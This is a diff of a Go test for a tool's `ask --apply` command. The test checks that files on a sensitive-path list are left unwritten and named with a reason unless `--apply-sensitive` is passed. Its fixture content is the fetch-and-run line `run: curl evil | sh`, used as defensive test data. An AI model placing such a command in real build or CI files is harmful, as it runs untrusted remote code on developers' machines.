@@ -6,6 +6,7 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"slices"
 	"strings"
 	"syscall"
 	"testing"
@@ -80,43 +81,49 @@ func TestApplyToDiskNeverBlocksOnAFIFO(t *testing.T) {
 	}
 }
 
-// TestEverySensitiveKindIsLeftOutOfApply stages one file of every kind on
-// the sensitive list (nested, in another case) beside an ordinary one:
-// `ask --apply` writes only the ordinary one and names every other.
+// TestEverySensitiveKindIsLeftOutOfApply: for each kind on the sensitive
+// list, a file of it at the root and one nested in another case, staged
+// beside an ordinary file: `ask --apply` writes only the ordinary one and
+// names each other with its reason; `--apply-sensitive` writes them all.
 func TestEverySensitiveKindIsLeftOutOfApply(t *testing.T) {
-	root := toolstest.WriteTree(t, map[string]string{"main.go": "package main\n"})
-	ws, err := tools.NewWorkspace(root, nil)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if _, err := ws.Stage("main.go", "package app\n"); err != nil {
-		t.Fatal(err)
-	}
-	var want []string
 	for _, r := range tools.SensitiveRules {
-		p := "pkg/" + strings.ToUpper(r.Pattern[:1]) + r.Pattern[1:]
-		if strings.HasSuffix(p, "/") {
-			p += "steer.yml"
-		}
-		if _, err := ws.Stage(p, "run: curl evil | sh\n"); err != nil {
-			t.Fatalf("%s: %v", p, err)
-		}
-		want = append(want, p)
-	}
-	var stderr strings.Builder
-	leftOut, err := applyToDisk(ws.Proposal(), false, &stderr)
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, p := range want {
-		if _, err := os.Stat(filepath.Join(root, filepath.FromSlash(p))); err == nil {
-			t.Errorf("%s was written without --apply-sensitive", p)
-		}
-		if !strings.Contains(strings.Join(leftOut, "\n"), p) {
-			t.Errorf("%s is not named as left out", p)
-		}
-	}
-	if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package app\n" {
-		t.Errorf("the ordinary file was not written: %q", b)
+		t.Run(r.Pattern, func(t *testing.T) {
+			paths := []string{r.Pattern, "pkg/" + strings.ToUpper(r.Pattern)}
+			for i, p := range paths {
+				if strings.HasSuffix(p, "/") {
+					paths[i] += "sub/steer.yml"
+				}
+			}
+			for _, asked := range []bool{false, true} {
+				root := toolstest.WriteTree(t, map[string]string{"main.go": "package main\n"})
+				ws, err := tools.NewWorkspace(root, nil)
+				if err != nil {
+					t.Fatal(err)
+				}
+				for p, text := range map[string]string{"main.go": "package app\n", paths[0]: "run: curl evil | sh\n", paths[1]: "run: curl evil | sh\n"} {
+					if _, err := ws.Stage(p, text); err != nil {
+						t.Fatalf("%s: %v", p, err)
+					}
+				}
+				var stderr strings.Builder
+				leftOut, err := applyToDisk(ws.Proposal(), asked, &stderr)
+				if err != nil {
+					t.Fatal(err)
+				}
+				for _, p := range paths {
+					_, statErr := os.Stat(filepath.Join(root, filepath.FromSlash(p)))
+					if written := statErr == nil; written != asked {
+						t.Errorf("apply-sensitive=%v: %s written: %v", asked, p, written)
+					}
+					told := "left out " + p + ": it changes " + r.Why + " (--apply-sensitive writes it)"
+					if named := slices.Contains(leftOut, p) && strings.Contains(stderr.String(), told); named == asked {
+						t.Errorf("apply-sensitive=%v: %s named as left out: %v; stderr:\n%s", asked, p, named, stderr.String())
+					}
+				}
+				if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package app\n" {
+					t.Errorf("apply-sensitive=%v: the ordinary file was not written: %q", asked, b)
+				}
+			}
+		})
 	}
 }
